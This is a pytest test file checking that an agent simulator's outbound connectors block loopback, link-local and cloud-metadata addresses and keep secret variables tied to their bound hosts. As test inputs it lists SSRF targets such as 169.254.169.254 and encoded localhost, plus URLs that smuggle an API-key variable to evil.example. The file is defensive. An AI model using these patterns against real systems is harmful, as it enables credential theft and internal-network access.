"""What connectors of a guarded server reach, and what they may take along."""

from __future__ import annotations

import socket
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from ipaddress import ip_network
from urllib.parse import urlsplit

import aiohttp
import pytest
from aiohttp.abc import AbstractResolver, ResolveResult

from simulation.catalog.connectors.chat import ChatConnector
from simulation.outbound.addresses import EVERYWHERE, AddressPolicy, Network
from simulation.outbound.connections import policy_connector
from simulation.outbound.variables import AgentVariables, Binding
from simulation.runner.agents.factory import agent_for
from simulation.runner.agents.surroundings import Surroundings
from simulation.runner.faults import EndpointUnavailable
from simulation.runner.wire.http_client import open_session
from simulation.runner.wire.retries import Retries
from tests.support.agents import freely

GOOD = {"choices": [{"message": {"content": "Done."}}]}
SETTING = "SIMULATION_AGENT_NETWORKS"
LOOPBACK = ip_network("127.0.0.0/8")


def policy(*networks: Network) -> AddressPolicy:
    return AddressPolicy(networks, SETTING)


class Names(AbstractResolver):
    """Knows where every name leads: to each of ``addresses`` in turn."""

    def __init__(self, *addresses: str) -> None:
        self._addresses = list(addresses)

    async def resolve(
        self, host: str, port: int = 0, family: socket.AddressFamily = socket.AF_INET
    ) -> list[ResolveResult]:
        return [
            ResolveResult(
                hostname=host, host=each, port=port, family=socket.AF_INET, proto=0, flags=0
            )
            for each in self._addresses
        ]

    async def close(self) -> None:
        pass


@asynccontextmanager
async def named(rules: AddressPolicy, *addresses: str) -> AsyncIterator[aiohttp.ClientSession]:
    """A session for which every name leads to ``addresses``."""
    connector = policy_connector(rules, Names(*addresses))
    async with aiohttp.ClientSession(connector=connector) as session:
        yield session


async def reason(url: str, session: aiohttp.ClientSession, turn, **fields) -> str:
    """Why the agent behind ``url`` is not reached."""
    variables = fields.pop("variables", freely({}))
    connector = ChatConnector(url=url, **fields)
    agent = agent_for(connector, Surroundings(variables, session, Retries(attempts=1)))
    with pytest.raises(EndpointUnavailable) as fault:
        await agent.reply(turn)
    return str(fault.value)


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "[::ffff:127.0.0.1]", "0x7f000001"])
async def test_the_machine_itself_is_not_reached(host: str, endpoint, turn) -> None:
    port = urlsplit(endpoint.url).port
    async with open_session(policy()) as session:
        assert SETTING in await reason(f"http://{host}:{port}", session, turn)
    assert endpoint.requests == []


async def test_it_is_where_the_operator_allows_it(endpoint, turn) -> None:
    endpoint.answers(GOOD)
    async with open_session(policy(LOOPBACK)) as session:
        agent = agent_for(ChatConnector(url=endpoint.url), Surroundings(freely({}), session))
        assert (await agent.reply(turn)).texts == ("Done.",)


@pytest.mark.parametrize(
    "host", ["169.254.169.254", "0.0.0.0", "[::]", "[fe80::1]", "[::ffff:169.254.169.254]"]
)
async def test_link_local_addresses_are_reached_by_nobody(host: str, turn) -> None:
    async with open_session(policy(*EVERYWHERE)) as session:
        assert "link-local" in await reason(f"http://{host}/latest", session, turn)


async def test_a_name_that_leads_to_the_machine_is_refused(endpoint, turn) -> None:
    port = urlsplit(endpoint.url).port
    async with named(policy(), "127.0.0.1") as session:
        said = await reason(f"http://agent.example:{port}", session, turn)
    assert SETTING in said
    assert "127.0.0.1" not in said, "what a name leads to is nobody's business"
    assert endpoint.requests == []


async def test_of_several_addresses_only_those_that_may_be_reached_are_tried(
    endpoint, turn
) -> None:
    port = urlsplit(endpoint.url).port
    endpoint.answers(GOOD)
    async with named(policy(LOOPBACK), "169.254.169.254", "127.0.0.1") as session:
        connector = ChatConnector(url=f"http://agent.example:{port}")
        assert (
            await agent_for(connector, Surroundings(freely({}), session)).reply(turn)
        ).texts == ("Done.",)


async def test_what_is_connected_to_is_looked_at_whatever_the_resolver_said(endpoint, turn) -> None:
    class Blind(AddressPolicy):
        """Sees nothing when names are resolved, as if they led elsewhere a moment later."""

        asked = 0

        def require(self, address: str) -> None:
            self.asked += 1
            if self.asked > 1:
                super().require(address)

    port = urlsplit(endpoint.url).port
    async with named(Blind([], SETTING), "127.0.0.1") as session:
        assert SETTING in await reason(f"http://agent.example:{port}", session, turn)
    assert endpoint.requests == []


KEY, BASE, PATH = (f"SIMULATION_AGENT_{name}" for name in ("KEY", "BASE", "PATH"))


class TestVariables:
    def given(self, hosts: Mapping[str, set[str]], endpoint, by: str = "acme") -> AgentVariables:
        """A key, a base and a path, bound to acme and to ``hosts``."""
        values = {KEY: "s3cr3t", BASE: endpoint.url, PATH: "hook-9f1"}
        bindings = {
            name: Binding(organizations=frozenset({"acme"}), hosts=frozenset(each))
            for name, each in hosts.items()
        }
        return AgentVariables(values, bindings, by)

    async def test_they_go_where_they_are_bound_to(self, client, endpoint, turn) -> None:
        endpoint.answers(GOOD)
        connector = ChatConnector(url=f"${{{BASE}}}/${{{PATH}}}", api_key=f"${{{KEY}}}")
        variables = self.given({KEY: {"127.0.0.1"}, BASE: set(), PATH: {"127.0.0.1"}}, endpoint)
        assert (await agent_for(connector, Surroundings(variables, client)).reply(turn)).texts == (
            "Done.",
        )
        [asked] = endpoint.requests
        assert asked.headers["Authorization"] == "Bearer s3cr3t"

    @pytest.mark.parametrize("place", ["url", "api_key", "headers"])
    async def test_nowhere_else(self, client, endpoint, turn, place: str) -> None:
        named = f"${{{KEY}}}"
        fields = {
            "url": {},
            "api_key": {"api_key": named},
            "headers": {"headers": {"X-Any": f"Key {named}"}},
        }[place]
        url = f"{endpoint.url}/{named}" if place == "url" else endpoint.url
        for hosts in ({"api.example"}, set()):
            variables = self.given({KEY: hosts}, endpoint)
            said = await reason(url, client, turn, variables=variables, **fields)
            assert KEY in said
            assert "SIMULATION_AGENT_BINDINGS" in said
            assert "s3cr3t" not in said
        assert endpoint.requests == []

    async def test_nor_for_another_organization(self, client, endpoint, turn) -> None:
        variables = self.given({BASE: {"*"}}, endpoint, by="globex")
        said = await reason(f"${{{BASE}}}", client, turn, variables=variables)
        assert "'globex'" in said
        assert endpoint.url not in said

    @pytest.mark.parametrize(
        "url",
        [
            "http://${SIMULATION_AGENT_KEY}.evil.example/",
            "http://${SIMULATION_AGENT_KEY}@evil.example/",
            "${SIMULATION_AGENT_KEY}.evil.example/",
            "${SIMULATION_AGENT_BASE}${SIMULATION_AGENT_KEY}/",
            "http://evil.example/?key=${SIMULATION_AGENT_KEY}",
        ],
    )
    async def test_what_was_stored_before_with_one_out_of_place_reaches_nobody(
        self, client, endpoint, turn, url: str
    ) -> None:
        said = await reason(url, client, turn, variables=freely({KEY: "s3cr3t", BASE: "http://x"}))
        assert "a variable cannot" in said
        assert "s3cr3t" not in said
